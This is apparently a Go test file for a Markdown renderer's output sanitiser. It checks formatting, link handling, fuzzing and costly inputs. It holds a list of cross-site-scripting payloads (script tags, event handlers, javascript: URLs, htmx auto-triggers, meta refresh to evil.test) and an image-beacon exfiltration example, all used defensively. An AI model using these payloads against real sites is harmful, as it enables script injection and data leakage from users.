package ui_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"regexp"
	"strings"
	"testing"

	markup "golang.org/x/net/html"

	"heddle/views/ui"
)

func formatted(t testing.TB, source string) string {
	t.Helper()
	var b bytes.Buffer
	if err := ui.Formatted(source).Render(context.Background(), &b); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestFormatted(t *testing.T) {
	for name, c := range map[string]struct{ source, want string }{
		"heading below the page's": {"# Plan\n\n###### Small", "<h3>Plan</h3>\n<h6>Small</h6>\n"},
		"marks":                    {"**a** *b* `c` ~~d~~", "<p><strong>a</strong> <em>b</em> <code>c</code> <del>d</del></p>\n"},
		"list":                     {"3. x\n4. y", "<ol start=\"3\">\n<li>x</li>\n<li>y</li>\n</ol>\n"},
		"code":                     {"```js\n<b>&\n```", "<pre><code>&lt;b&gt;&amp;\n</code></pre>\n"},
		"table":                    {"|a|b|\n|-|:-:|\n|1|2|", "<table>\n<thead>\n<tr>\n<th>a</th>\n<th align=\"center\">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td align=\"center\">2</td>\n</tr>\n</tbody>\n</table>\n"},
		"link":                     {"[x](https://e.test/a?b=1)", "<p><a href=\"https://e.test/a?b=1\" rel=\"nofollow noreferrer noopener\" target=\"_blank\">x</a></p>\n"},
		"link within the site":     {"[**x**](/settings) [y](../a) [z](#main)", "<p><strong>x</strong> y z</p>\n"},
		"address without a host":   {"<http:> <https:///x> www.e.test <a@e.test>", "<p>http: https:///x <a href=\"http://www.e.test\" rel=\"nofollow noreferrer noopener\" target=\"_blank\">www.e.test</a> <a href=\"mailto:a@e.test\" rel=\"nofollow noreferrer\">a@e.test</a></p>\n"},
		"own picture":              {"![a](/api/files/file_1)", "<p><img src=\"/api/files/file_1\" alt=\"a\"></p>\n"},
		"own picture, elsewhere":   {"![a](/api/files/../values/x)", "<p>a</p>\n"},
		"cut in a character":       {strings.Repeat("x", ui.MaxFormatted-1) + "é", "<p>" + strings.Repeat("x", ui.MaxFormatted-1) + "\uFFFD</p>\n<p><em>Only the beginning is shown formatted.</em></p>"},
		"tangled":                  {strings.Repeat(">", 100) + "<b>", "<p><em>This text is too tangled to be formatted.</em></p><pre>" + strings.Repeat("&gt;", 100) + "&lt;b&gt;</pre>"},
	} {
		if got := formatted(t, c.source); got != c.want {
			t.Errorf("%s:\n got %q\nwant %q", name, got[:min(len(got), 400)], c.want[:min(len(c.want), 400)])
		}
	}
}

// TestB4_PicturesFromElsewhereAreLinks: a picture's address may carry what the text's
// author wants to get out, so that nothing fetches it before a person does.
func TestB4_PicturesFromElsewhereAreLinks(t *testing.T) {
	const address = "https://evil.test/p.png?d=canary"
	for _, source := range []string{
		"![chart](" + address + ")", "![](" + address + ")", "![chart][1]\n\n[1]: " + address, "[![chart](" + address + ")](" + address + ")",
		"![chart](<" + address + "> \"title\")", "![a ![b](" + address + ")](" + address + ")", "![chart](//evil.test/p.png?d=canary)", "# ![chart](" + address + ")",
		"|![c](" + address + ")|\n|-|\n|![c](" + address + ")|",
	} {
		got := formatted(t, source)
		if strings.Contains(got, "<img") || strings.Contains(got, "src=") {
			t.Errorf("%s fetches: %s", source, got)
		}
		if strings.Contains(source, "https:") && !strings.Contains(got, `<a href="`+address+`"`) {
			t.Errorf("%s has no link: %s", source, got)
		}
	}
}

// hostile are ways to make a page do what a text says.
var hostile = []string{
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'>",
	"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "<javascript:alert(1)>", "[x](vbscript:x)",
	"![x](javascript:alert(1))", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "![x\" onerror=\"alert(1)](/api/files/a)", "![x](/api/files/a\"onerror=\"alert(1))",
	"<a href='x' hx-get='/signout' hx-trigger='load'>x</a>", "<div data-hx-post='/x' hx-trigger=load></div>", "<p hx-on::load='alert(1)'>x</p>",
	"# x {onclick=alert(1)}", "<style>*{display:none}</style>", "<form action=/signout method=post><button>x</button></form>", "<base href=//evil.test>", "<meta http-equiv=refresh content='0;url=//evil.test'>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<!--><script>alert(1)</script>-->", "<p id=main class=toast style=color:red>x</p>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
	"```\"><script>alert(1)</script>\nx\n```", "[x]: javascript:alert(1)\n\n[x]", "<https://e.test/\"onclick=alert(1)>", "https://e.test/\"onmouseover=alert(1)", "[a](https://e.test/'\"><script>alert(1)</script>)",
}

func TestB4_FormattedTextIsClean(t *testing.T) {
	for _, source := range hostile {
		if bad := dirt(formatted(t, source)); bad != "" {
			t.Errorf("%s\n leaves %s", source, bad)
		}
	}
	for name, source := range costly() {
		if bad := dirt(formatted(t, source)); bad != "" {
			t.Errorf("%s leaves %s", name, bad)
		}
	}
	t.Logf("PROOF B4: %d hostile texts, nothing left that a browser would obey", len(hostile))
}

var (
	keptTags  = regexp.MustCompile(`^(p|br|hr|h[3-6]|em|strong|del|code|pre|blockquote|[uo]l|li|table|thead|tbody|t[rhd]|a|img)$`)
	keptAttrs = regexp.MustCompile(`^(a (href|rel|target)|img (src|alt)|ol start|t[hd] align)$`)
	keptLinks = regexp.MustCompile(`(?i)^(https?://|mailto:)`)
)

// dirt names the first thing in a page's text that is not on the list of what may stay.
func dirt(page string) string {
	z := markup.NewTokenizer(strings.NewReader(page))
	for {
		switch z.Next() {
		case markup.ErrorToken:
			if errors.Is(z.Err(), io.EOF) {
				return ""
			}
			return z.Err().Error()
		case markup.TextToken:
		case markup.CommentToken, markup.DoctypeToken:
			return z.Token().String()
		case markup.StartTagToken, markup.SelfClosingTagToken, markup.EndTagToken:
			tok := z.Token()
			if !keptTags.MatchString(tok.Data) {
				return tok.String()
			}
			for _, a := range tok.Attr {
				if !keptAttrs.MatchString(tok.Data+" "+a.Key) || a.Key == "href" && !keptLinks.MatchString(a.Val) || a.Key == "src" && !strings.HasPrefix(a.Val, "/api/files/") {
					return tok.String()
				}
			}
		}
	}
}

// FuzzFormatted reads any text: nothing but harmless elements comes of it.
func FuzzFormatted(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Add("| a |\n|---|\n| ![x](https://e.test/p) |\n\n> 1. *x*\n")
	f.Fuzz(func(t *testing.T, source string) {
		if bad := dirt(formatted(t, source)); bad != "" {
			t.Errorf("%q leaves %s", source, bad)
		}
	})
}

// costly are texts that cost a reader of Markdown much for their size.
func costly() map[string]string {
	full := func(unit string) string { return strings.Repeat(unit, ui.MaxFormatted/len(unit)) }
	var ticks, steps strings.Builder
	for i := 1; ticks.Len() < ui.MaxFormatted; i++ {
		ticks.WriteString("a" + strings.Repeat("`", i))
	}
	for i := 0; steps.Len() < ui.MaxFormatted; i++ {
		steps.WriteString(strings.Repeat(" ", 2*i) + "- a\n")
	}
	return map[string]string{
		"prose": full("Some **bold** words, a [link](https://e.test).\n\n"), "quotes": full(">"), "quotes apart": full("> "), "quotes and lists": full("> - "), "brackets": full("["), "links": full("[a]("), "pictures": full("!["),
		"stars": full("*a_ "), "stars in lines": full("*a_\n"), "tildes": full("~~a*"), "lists": full("- a "), "numbers": full("1. "), "plus": full("+ "), "steps": steps.String(), "ticks": ticks.String(), "table": full("|a"), "rows": full("|a")[:2000] + "\n" + full("|-")[:2000] + "\n" + full("|\n"),
		"tags": full("<a "), "comments": full("<!-- "), "entities": full("&amp"), "addresses": full("http://a."), "mails": full("a@a."), "references": full("[a]: b\n[a]\n"), "escapes": full("\\*"), "fences": full("```\n"), "setext": full("a\n=\n"), "brackets closed": full("[")[:ui.MaxFormatted/2] + full("]")[:ui.MaxFormatted/2],
	}
}

// BenchmarkFormatted takes the texts that cost most.
func BenchmarkFormatted(b *testing.B) {
	for name, source := range costly() {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(source)))
			for b.Loop() {
				formatted(b, source)
			}
		})
	}
}
